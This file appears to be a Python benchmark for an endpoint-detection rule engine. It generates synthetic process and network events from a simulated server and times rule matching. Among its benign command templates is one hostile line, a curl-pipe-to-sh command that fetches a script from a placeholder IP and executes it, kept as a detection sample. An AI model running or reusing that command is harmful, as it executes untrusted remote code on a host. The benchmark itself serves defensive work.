"""Decode and match with the rules shipped with microedr: ``python -m tools.bench.detector [--rules DIR]``.

Batches of 100 events as ingest publishes them, from a made-up but dense server: package scripts, compilers,
web and database work, containers, cron, now and then an attack. No bus, no headers: what is measured is
what a detector's core spends per event. The baseline is the same batches only decoded.
"""

import argparse
import random
import time
from collections.abc import Callable
from pathlib import Path

from tools.bench.report import report

from microedr.batch import decode_batch, encode_batch
from microedr.v1.event_pb2 import (
    NET_DIRECTION_EGRESS,
    NET_DIRECTION_INGRESS,
    NET_PHASE_CLOSE,
    NET_PHASE_OPEN,
    AgentEvent,
    Container,
    EventBatch,
    Namespaces,
    NetConn,
    Process,
    ProcExec,
    ProcExit,
    ProcFork,
)
from microedr_rules.ruleset import RuleSet

TARGET_EVENTS_PER_S = 100_000
FRAME_EVENTS = 100
FRAMES = 600
REPETITIONS = 5

_SHELL, _DASH = "/usr/bin/bash", "/usr/bin/dash"
_COMMANDS: tuple[tuple[str, str, str], ...] = (
    (_DASH, "/bin/sh -c cd / && run-parts --report /etc/cron.hourly", "/usr/sbin/cron"),
    (_DASH, "sh -c git -C /srv/app{n} rev-parse --short HEAD", "/usr/bin/node"),
    (_SHELL, "/bin/bash /opt/app/bin/health.sh --port {n} --quiet", "/usr/bin/containerd-shim-runc-v2"),
    ("/usr/bin/curl", "curl -fsS --max-time 2 http://127.0.0.1:{n}/healthz", _SHELL),
    ("/usr/bin/grep", "grep -E ^(ok|ready) /run/app/state.{n}", _SHELL),
    ("/usr/bin/sed", "sed -e s/@VERSION@/1.{n}/g -i config.h", "/usr/bin/make"),
    (
        "/usr/lib/gcc/x86_64-linux-gnu/12/cc1",
        (
            "/usr/lib/gcc/x86_64-linux-gnu/12/cc1 -quiet -I . -I ../include -imultiarch x86_64-linux-gnu -D_GNU_SOURCE "
            "-dumpdir obj{n}- -dumpbase unit{n}.c -mtune=generic -march=x86-64 -g -O2 -Wall -o /tmp/ccA{n}.s unit{n}.c"
        ),
        "/usr/bin/x86_64-linux-gnu-gcc-12",
    ),
    ("/usr/bin/x86_64-linux-gnu-as", "as --64 -I . -o unit{n}.o /tmp/ccA{n}.s", "/usr/bin/x86_64-linux-gnu-gcc-12"),
    ("/usr/bin/make", "make -j8 -C build/module{n} all", _DASH),
    ("/usr/bin/git", "git --no-optional-locks status --porcelain=v2 --branch -z", "/usr/bin/node"),
    ("/usr/bin/dpkg-query", "dpkg-query -W -f=${{Status}} package{n}", "/usr/bin/apt-get"),
    (
        "/usr/bin/python3.11",
        "/srv/venv/bin/python -m worker --queue jobs-{n} --concurrency 4",
        "/usr/lib/systemd/systemd",
    ),
    (
        "/usr/bin/runc",
        "runc --root /run/containerd/runc/k8s.io --log /run/log{n}.json state {n}",
        "/usr/bin/containerd",
    ),
    (
        "/usr/lib/postgresql/15/bin/postgres",
        "postgres: app app 10.0.3.{o}({n}) idle",
        "/usr/lib/postgresql/15/bin/postgres",
    ),
    ("/usr/bin/stat", "stat -c %Y /var/lib/app/spool/{n}", _SHELL),
    ("/usr/bin/awk", "awk NR=={n}{{print $4}} /proc/loadavg", _SHELL),
    ("/usr/bin/date", "date +%s.%N", _SHELL),
    ("/usr/bin/rsync", "rsync -a --delete /srv/data{n}/ backup:/srv/data{n}/", "/usr/sbin/cron"),
    ("/usr/sbin/sshd", "sshd: deploy [priv] {n}", "/usr/sbin/sshd"),
    (
        "/usr/lib/jvm/java-17/bin/java",
        "java -Xmx512m -cp /opt/app/lib/a.jar:/opt/app/lib/b-{n}.jar com.example.Main",
        _DASH,
    ),
)
_ATTACK = (_DASH, "sh -c curl -fsSL http://203.0.113.{o}/i{n}.sh | sh", "/usr/bin/python3.11")
_CONTAINER = Container(runtime="containerd", container_id="4c01db0b339c" * 5, name="web", image="registry/app:1.4")


class Server:
    """Makes the events of one host, in the shape its sensor gives them."""

    def __init__(self, seed: int) -> None:
        self._random = random.Random(seed)  # noqa: S311 - repeatable, not secret
        self._seqno = 0
        self._boot_ns = 10**12

    def batch(self) -> EventBatch:
        """The next frame's events."""
        events: list[AgentEvent] = []
        while len(events) < FRAME_EVENTS:
            events += self._process()
        return EventBatch(events=events[:FRAME_EVENTS])

    def _process(self) -> list[AgentEvent]:
        """The life of one process: fork, exec, now and then connections, exit."""
        pick = self._random
        template = _ATTACK if pick.random() < 0.002 else pick.choice(_COMMANDS)  # noqa: PLR2004 - one in five hundred
        exe, cmdline, parent = template
        cmdline = cmdline.format(n=pick.randrange(100_000), o=pick.randrange(256))
        pid, uid = pick.randrange(300, 4_000_000), pick.randbytes(16)
        full = Process(
            pid=pid,
            ppid=pick.randrange(300, 4_000_000),
            start_boot_ns=self._boot_ns,
            exe=exe,
            comm=exe.rsplit("/", 1)[1][:15],
            cmdline=cmdline,
            cwd="/srv/app",
            user="www-data",
            uid=33,
            gid=33,
            euid=33,
            login_uid=2**32 - 1,
            parent_process_uid=pick.randbytes(16),
            parent_exe=parent,
            parent_cmdline=parent.rsplit("/", 1)[1],
        )
        compact = Process(
            pid=pid, ppid=full.ppid, exe=exe, comm=full.comm, cmdline=cmdline[:256], uid=33, user="www-data"
        )
        fork = self._event(
            uid, compact, proc_fork=ProcFork(child_pid=pid, child_process_uid=uid, child_start_boot_ns=1)
        )
        execed = self._event(
            uid,
            full,
            proc_exec=ProcExec(
                argv=cmdline.split(" "),
                env_keys=["PATH", "HOME", "LANG", "PWD", "SHLVL", "LOGNAME"],
                parent_exe=parent,
                filename=exe,
                exe_inode=pick.randrange(10**6),
                exe_dev=2049,
                exe_mode=0o100755,
                exe_nlink=1,
                namespaces=Namespaces(pid=4026531836, mnt=4026531841, net=4026531840),
            ),
        )
        exited = self._event(uid, compact, proc_exit=ProcExit(read_bytes=9000, written_bytes=120, duration_ns=10**7))
        return [fork, execed, *self._connections(uid, compact), exited]

    def _connections(self, uid: bytes, process: Process) -> list[AgentEvent]:
        pick = self._random
        if process.exe in {_SHELL, _DASH} or pick.random() > 0.4:  # noqa: PLR2004 - two in five of the others
            return []
        direction = pick.choice((NET_DIRECTION_EGRESS, NET_DIRECTION_INGRESS))
        ends = {"src_ip": bytes((10, 0, 3, 7)), "src_port": pick.randrange(65536), "dst_ip": pick.randbytes(4)}
        port = pick.choice((80, 443, 5432, 6379, 8080, 9092))
        return [
            self._event(
                uid,
                process,
                net_conn=NetConn(proto="tcp", direction=direction, phase=phase, dst_port=port, **ends),  # type: ignore[arg-type]
            )
            for phase in (NET_PHASE_OPEN, NET_PHASE_CLOSE)
        ]

    def _event(self, uid: bytes, process: Process, **kind: ProcExec | ProcFork | ProcExit | NetConn) -> AgentEvent:
        self._seqno += 1
        self._boot_ns += 10**6
        return AgentEvent(
            seqno=self._seqno,
            timestamp_unix_ns=1_760_000_000_000_000_000 + self._boot_ns,
            timestamp_boot_ns=self._boot_ns,
            process_uid=uid,
            process=process,
            container=_CONTAINER if self._random.random() < 0.5 else None,  # noqa: PLR2004 - every second one
            **kind,  # type: ignore[arg-type] # the keyword names the kind
        )


def _rate(work: Callable[[], int], events_total: int) -> float:
    """Events per second of CPU time."""
    began_s = time.process_time()
    work()
    return events_total / (time.process_time() - began_s)


def main() -> None:
    """Measure and report."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--rules", type=Path, action="append", default=[], help="further rules, file or directory")
    parser.add_argument("--repetitions", type=int, default=REPETITIONS)
    options = parser.parse_args()
    rules = RuleSet.load(options.rules)
    server = Server(seed=7)
    records = [encode_batch(server.batch()) for _ in range(FRAMES)]
    events_total = FRAMES * FRAME_EVENTS

    def decode() -> int:
        return sum(len(decode_batch(record).events) for record in records)

    def match() -> int:
        return sum(len(rules.match(event)) for record in records for event in decode_batch(record).events)

    matches_total = match()
    decoded, matched = [], []
    for repetition in range(options.repetitions):
        decoded.append(_rate(decode, events_total))
        matched.append(_rate(match, events_total))
        print(f"detector {repetition + 1}/{options.repetitions}: {matched[-1]:,.0f} events/s", flush=True)
    report(
        "detector",
        matched,
        unit="events/s",
        target=TARGET_EVENTS_PER_S,
        higher_is_better=True,
        baseline=sorted(decoded)[len(decoded) // 2],
        baseline_is="the same batches decoded, nothing matched",
        notes=f"{len(rules.evaluated)} rules, {FRAMES} batches of {FRAME_EVENTS} events, "
        f"{sum(map(len, records)) // events_total} bytes per event, {matches_total} matches, one core of CPU time",
    )


if __name__ == "__main__":
    main()
